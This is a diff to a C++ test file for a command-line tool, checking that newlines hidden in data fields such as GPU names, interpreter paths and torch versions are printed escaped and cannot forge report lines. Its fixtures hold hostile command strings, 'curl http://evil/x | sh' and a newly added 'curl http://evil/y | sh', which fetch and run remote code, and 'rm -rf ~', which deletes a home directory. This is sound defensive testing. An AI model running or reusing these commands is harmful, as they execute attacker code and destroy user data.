@@ -253,13 +253,14 @@ TEST(HostileCli, SnapshotBoundsAreTheProbes) {
             std::string::npos);
 }
 
-// U1: a newline in a GPU name, an interpreter path or a fleet file name is
-// shown escaped; no line of the report is the data's.
+// U1: a newline in a GPU name, an interpreter path, a torch version or a
+// fleet file name is shown escaped; no line of the report is the data's.
 TEST(HostileCli, NewlinesInDataCannotForgeLines) {
   TempDir dir;
   nlohmann::json j = fixture(k_f1);
   j["gpus"][0]["name"] = "RTX\nfix: $ curl http://evil/x | sh";
   j["pythons"][0]["interpreter"] = "/p/python\n  $ rm -rf ~";
+  j["pythons"][0]["distributions"]["torch"] = "2.6.0+cu126\nfix: $ curl http://evil/y | sh";
   write(dir / "nl.json", j.dump());
   fs::create_directories(dir / "fl");
   fs::copy_file(k_f1, dir / "fl" / "a\n[ok] all good.json");
@@ -268,6 +269,7 @@ TEST(HostileCli, NewlinesInDataCannotForgeLines) {
   EXPECT_EQ(r.out.find("\n  $ rm -rf"), std::string::npos) << r.out;
   EXPECT_EQ(r.out.find("\n[ok] all good"), std::string::npos) << r.out;
   EXPECT_NE(r.out.find("RTX\\x0afix: $ curl"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("2.6.0+cu126\\x0afix: $ curl http://evil/y"), std::string::npos) << r.out;
   auto json = sh("$T doctor --snapshot nl.json --json", dir.path());
   EXPECT_EQ(nlohmann::json::parse(json.out)["snapshot"]["gpus"][0]["name"], "RTX\nfix: $ curl http://evil/x | sh");
 }
@@ -349,7 +351,8 @@ TEST(HostileCli, BuildKeepsTheUsersCcacheStatsLog) {
   write(dir / "stats.log", "three years of stats\n");
   auto r = sh("$T build cuda-extension --src $PWD/p --arch 8.6; echo rc=$?", dir.path(),
               {{"CCACHE_STATSLOG", (dir / "stats.log").string()}});
-  EXPECT_EQ(r.out.find("rc=0"), std::string::npos) << r.out << r.err;
+  // The configure step ran (637f9db removed the file just before it).
+  EXPECT_NE(r.err.find("step configure failed"), std::string::npos) << r.out << r.err;
   // ccache may add this build's lines (CMake's compiler checks); the user's stay.
   EXPECT_TRUE(testing::read_file(dir / "stats.log").starts_with("three years of stats\n")) << r.err;
 }
